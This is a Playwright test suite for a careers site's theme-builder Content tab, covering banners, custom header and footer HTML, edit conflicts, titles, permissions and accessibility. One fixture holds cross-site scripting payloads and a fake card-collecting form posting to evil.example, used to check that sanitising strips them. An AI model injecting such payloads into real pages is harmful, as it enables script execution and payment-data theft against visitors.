import type { Browser, Page } from '@playwright/test';
import { audit, overflowOf } from '../accessibility/audit.ts';
import { addressOf, meridian } from './employers.ts';
import { openPage } from './search-page.ts';
import { expect, test, type ThemedSite } from './site.ts';
import { openThemeBuilder } from './theme-panel.ts';
import { logIn, write } from './wire.ts';

const address = '/api/pcsx/site_content';
const untouched = {
  banners: [],
  phase: null,
  tagline: 'Good care, wherever you live',
  titles: {},
  navbar: '',
  footer: '',
};

/** As another theme builder, or an admin, writes it. */
const writeContent = async (page: Page, site: ThemedSite, body: object) => {
  const headers = { 'if-match': '*' };
  await expect(await write(page.request, 'PUT', address, { site: site.address, body, headers })).toBeOK();
};

// the tests of a worker share a server
test.afterEach(async ({ page, themedSite }) => {
  await logIn(page.context(), `brand@${meridian}`, themedSite.address);
  await writeContent(page, themedSite, untouched);
});

/** The tab with its cards, on a page that has a primary button and, as a search, is called `jobs`. */
const openContent = async (page: Page, site: ThemedSite) => {
  const { panel } = await openThemeBuilder(page, site);
  await panel.getByRole('tab', { name: 'Content' }).click();
  const card = (name: string) => panel.getByRole('region', { name, exact: true });
  await expect(card('Banners')).toBeVisible();
  const save = async (name: string) => {
    await panel.getByRole('button', { name: `Save: ${name}`, exact: true }).click();
    await expect(card(name).getByText('Saved. Visitors see it now.')).toBeVisible();
  };
  return { panel, card, save };
};

/** A page as somebody sees it who comes anew. */
const visit = async (browser: Browser, site: ThemedSite, path: string) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await openPage(page, `${site.address}${addressOf(path)}`);
  return page;
};

test('THEME-07 a banner that is saved shows in the page at once, and to visitors of its pages in its time (B15)', async ({
  page,
  themedSite,
  browser,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  const loads: string[] = [];
  page.on('request', (request) => {
    if (request.resourceType() === 'document') loads.push(request.url());
  });
  await panel.getByRole('button', { name: 'Add a banner' }).click();
  const text = card('Banners').getByRole('textbox', { name: 'Text' });
  await expect(text).toBeFocused();
  await panel.getByRole('button', { name: 'Save: Banners' }).click();
  await expect(card('Banners').getByText('Write what the banner says.')).toBeVisible();
  await expect(text).toBeFocused();
  await text.fill('Open day on Friday');
  await card('Banners').getByRole('radio', { name: 'Alert' }).check();
  await card('Banners').getByLabel('Starts').fill('2020-01-01T10:00');
  await card('Banners').getByLabel('Ends').fill('2019-01-01T10:00');
  await panel.getByRole('button', { name: 'Save: Banners' }).click();
  await expect(card('Banners').getByText('It has to end after it starts.')).toBeVisible();
  await card('Banners').getByLabel('Ends').fill('2090-01-01T10:00');
  await save('Banners');
  const notices = page.getByRole('complementary', { name: 'Notices' });
  await expect(notices.getByRole('alert')).toHaveText('Open day on Friday');
  expect(loads).toEqual([]);

  const visitor = await visit(browser, themedSite, '/careers');
  await expect(visitor.getByRole('alert').getByText('Open day on Friday')).toBeVisible();
  await openPage(visitor, `${themedSite.address}${addressOf('/careers/login')}`);
  await expect(visitor.locator('#root').getByText('Open day on Friday')).toHaveCount(0);

  await card('Banners').getByLabel('Starts').fill('2080-01-01T10:00');
  await save('Banners');
  await expect(notices).toHaveCount(0);
  await openPage(visitor, `${themedSite.address}${addressOf('/careers')}`);
  expect(await visitor.content()).not.toContain('Open day on Friday');
  await visitor.context().close();
});

test('SHELL-04 a banner goes from a page that stays open when its time is over (B15)', async ({
  page,
  themedSite,
}) => {
  await logIn(page.context(), `brand@${meridian}`, themedSite.address);
  const endsAt = new Date(Date.now() + 3_600_000).toISOString();
  const banner = { variant: 'info', text: 'Only for an hour', pages: ['jobs'], endsAt };
  await writeContent(page, themedSite, { banners: [banner] });
  await page.clock.install();
  await openPage(page, `${themedSite.address}${addressOf('/careers')}`);
  const notices = page.getByRole('complementary', { name: 'Notices' });
  await expect(notices.getByText('Only for an hour')).toBeVisible();
  await page.clock.fastForward(3_590_000);
  await expect(notices.getByText('Only for an hour')).toBeVisible();
  await page.clock.fastForward(20_000);
  await expect(notices).toHaveCount(0);
});

const hostile = `<script>window.ran = 'script'</script>
<img src="x" onerror="window.ran = 'onerror'">
<a href="javascript:window.ran='href'">Our link</a>
<iframe src="javascript:parent.ran='iframe'"></iframe>
<form action="https://evil.example"><input name="card"><button>Pay</button></form>
<div style="position:fixed;inset:0;z-index:9999;color:red" onclick="window.ran='click'">Our words</div>
<svg onload="window.ran='svg'"></svg>`;

test('SHELL-03 hostile HTML runs neither in the page while it is written nor for visitors, and what it loses is told (B15)', async ({
  page,
  themedSite,
  browser,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  const field = card('Footer').getByRole('textbox');
  await field.fill(hostile);
  for (const lost of [
    '<script>',
    '<iframe>',
    '<form>',
    'onerror on <img>',
    'href on <a>',
    'style position on <div>',
  ])
    await expect(card('Footer').getByRole('listitem').filter({ hasText: lost })).toBeVisible();
  // seen behind the panel by who writes it, and by nobody else
  await expect(page.getByText('Our words', { exact: true })).toHaveCSS('color', 'rgb(255, 0, 0)');
  const visitor = await visit(browser, themedSite, '/careers');
  expect(await visitor.content()).not.toContain('Our words');

  await save('Footer');
  await openPage(visitor, `${themedSite.address}${addressOf('/careers')}`);
  for (const shown of [page, visitor]) {
    const words = shown.locator('footer').getByText('Our words', { exact: true });
    await words.click();
    await expect(words).toHaveCSS('position', 'static');
    await shown.locator('footer').getByText('Our link').click();
    await expect(
      shown
        .locator('footer > div')
        .filter({ hasText: 'Our words' })
        .locator('script, iframe, input, svg, [onclick], [onerror], [style], a[href^="java"]'),
    ).toHaveCount(0);
    expect(await shown.evaluate(() => (window as unknown as { ran?: string }).ran)).toBeUndefined();
  }

  await field.fill('<script>1</script>');
  await expect(
    card('Footer').getByText('Nothing that can be shown is left, so visitors get the standard one.'),
  ).toBeVisible();
  await panel.getByRole('button', { name: 'Discard changes: Footer' }).click();
  await expect(page.locator('footer').getByText('Our words', { exact: true })).toBeVisible();
  await visitor.context().close();
});

test('SHELL-03 HTML that is larger than its place scrolls there, and ?theme=safe shows the standard parts (B15)', async ({
  page,
  themedSite,
  browser,
}) => {
  await logIn(page.context(), `brand@${meridian}`, themedSite.address);
  const long = `<p style="white-space: nowrap">${'As long as a line can be. '.repeat(40)}</p>`;
  const lines = '<p style="font-size: 64px; padding: 96px">Our line</p>'.repeat(40);
  await writeContent(page, themedSite, { navbar: long + lines, footer: long + lines });
  const visitor = await visit(browser, themedSite, '/careers');
  for (const place of [visitor.locator('header'), visitor.locator('footer')])
    await expect(place.getByText('Our line').first()).toBeAttached();
  for (const width of [320, 1280]) {
    await visitor.setViewportSize({ width, height: 800 });
    expect(await overflowOf(visitor)).toBe(0);
    const { y } = (await visitor.locator('main').boundingBox())!;
    expect(y).toBeLessThan(800);
    const { height } = (await visitor.locator('footer').boundingBox())!;
    expect(height).toBeLessThan(1000);
  }
  await openPage(visitor, `${themedSite.address}${addressOf('/careers', { theme: 'safe' })}`);
  await expect(visitor.locator('header').getByRole('link', { name: 'Jobs' })).toBeVisible();
  await expect(visitor.getByText('Our line')).toHaveCount(0);
  await visitor.context().close();
});

test('THEME-07 what is not saved waits through a closed panel, a failed save and a reload', async ({
  page,
  themedSite,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  const tagline = card('Tagline').getByRole('textbox', { name: 'Tagline' });
  await tagline.fill('Better care');
  await panel.getByRole('button', { name: 'Close', exact: true }).click();
  await page.getByRole('button', { name: 'Edit theme' }).click();
  await panel.getByRole('tab', { name: 'Content' }).click();
  await expect(tagline).toHaveValue('Better care');

  await page.route(`**${address}*`, (route) => route.abort());
  await panel.getByRole('button', { name: 'Save: Tagline' }).click();
  await expect(card('Tagline').getByText(/Not saved, because there is no connection/)).toBeVisible();
  await page.unroute(`**${address}*`);

  await page.reload();
  await page.getByRole('button', { name: 'Edit theme' }).click();
  await panel.getByRole('tab', { name: 'Content' }).click();
  await expect(panel.getByText('Changes that were not saved are still here.')).toBeVisible();
  await expect(tagline).toHaveValue('Better care');
  await save('Tagline');

  await panel.getByText('Last changes of the content').click();
  await panel
    .getByRole('button', { name: /^Bring back what was before: Tagline/ })
    .first()
    .click();
  await expect(tagline).toHaveValue(untouched.tagline);
});

test('THEME-07 of two who change the same words both are shown and neither is lost; other parts go together (B11)', async ({
  page,
  themedSite,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  const tagline = card('Tagline').getByRole('textbox', { name: 'Tagline' });
  await tagline.fill('Mine');
  await writeContent(page, themedSite, { phase: 'Being set up' });
  await save('Tagline');
  await expect(card('Opening notice').getByRole('textbox', { name: 'Text' })).toHaveValue('Being set up');

  await tagline.fill('Mine again');
  await writeContent(page, themedSite, { tagline: 'Theirs' });
  await panel.getByRole('button', { name: 'Save: Tagline' }).click();
  const conflict = card('Tagline').getByRole('alert');
  await expect(conflict).toContainText('Somebody else has changed this');
  await expect(conflict).toContainText('Mine again');
  await expect(conflict).toContainText('Theirs');
  await conflict.getByRole('button', { name: 'Save mine' }).click();
  await expect(card('Tagline').getByText('Saved. Visitors see it now.')).toBeVisible();
  const { data } = (await (await page.request.get(`${themedSite.address}${addressOf(address)}`)).json()) as {
    data: { content: typeof untouched };
  };
  expect(data.content).toMatchObject({ tagline: 'Mine again', phase: 'Being set up' });
});

test('SHELL-02 a page’s title may be the employer’s own, with its name and the standard title in it', async ({
  page,
  themedSite,
  browser,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  await card('Page titles').locator('summary').click();
  const jobs = card('Page titles').getByRole('textbox', { name: 'Job search' });
  await expect(jobs).toHaveAttribute('placeholder', 'Careers at Meridian Health');
  await jobs.fill('{employer} jobs');
  await panel.getByRole('button', { name: 'Save: Page titles' }).click();
  await expect(card('Page titles').getByText(/^In braces there may be/)).toBeVisible();
  await expect(jobs).toBeFocused();
  await jobs.fill('Work with us | {company} | {title}');
  await save('Page titles');
  const visitor = await visit(browser, themedSite, '/careers');
  await expect(visitor).toHaveTitle('Work with us | Meridian Health | Careers at Meridian Health');
  await visitor.context().close();
});

test('THEME-04 who lacks the right to write HTML reads it, and is told why (B12)', async ({
  page,
  themedSite,
  playwright,
}) => {
  const give = async (rights: readonly string[]) => {
    const admin = { request: await playwright.request.newContext() };
    const at = { site: themedSite.address };
    await logIn(admin, `admin@${meridian}`, themedSite.address);
    const path = '/api/pcsx/themes/rights';
    const answer = await admin.request.get(`${themedSite.address}${addressOf(path)}`);
    const { data } = (await answer.json()) as { data: { builders: { email: string; encId: string }[] } };
    const encId = data.builders.find(({ email }) => email === `brand@${meridian}`)?.encId;
    await expect(await write(admin.request, 'PUT', path, { ...at, body: { encId, rights } })).toBeOK();
    await admin.request.dispose();
  };
  await give(['view', 'edit']);
  const { panel, card } = await openContent(page, themedSite);
  await expect(card('Footer').getByRole('textbox')).toHaveAttribute('readonly', '');
  await expect(card('Footer').getByText(/right “custom_html”/)).toBeVisible();
  await expect(panel.getByRole('button', { name: 'Save: Footer' })).toHaveCount(0);
  await expect(panel.getByRole('button', { name: 'Save: Tagline' })).toBeVisible();
  const refused = await write(page.request, 'PUT', address, {
    site: themedSite.address,
    body: { footer: '<p>Mine</p>' },
    headers: { 'if-match': '*' },
  });
  expect(refused.status()).toBe(403);
  await give(['view', 'edit', 'publish', 'custom_html', 'lock']);
});

test('THEME-07 axe finds nothing in the content, narrow and wide, and nothing scrolls sideways (B18)', async ({
  page,
  themedSite,
}) => {
  const { panel, card } = await openContent(page, themedSite);
  await panel.getByRole('button', { name: 'Add a banner' }).click();
  await card('Footer').getByRole('textbox').fill('<script>1</script><p>Our words</p>');
  await card('Page titles').locator('summary').click();
  await panel.getByText('Last changes of the content').click();
  await expect(card('Footer').getByRole('listitem').first()).toBeVisible();
  for (const width of [1280, 320]) {
    await page.setViewportSize({ width, height: 800 });
    expect.soft(await audit(page), `${width} px`).toEqual([]);
    expect.soft(await overflowOf(page), `${width} px`).toBe(0);
  }
});
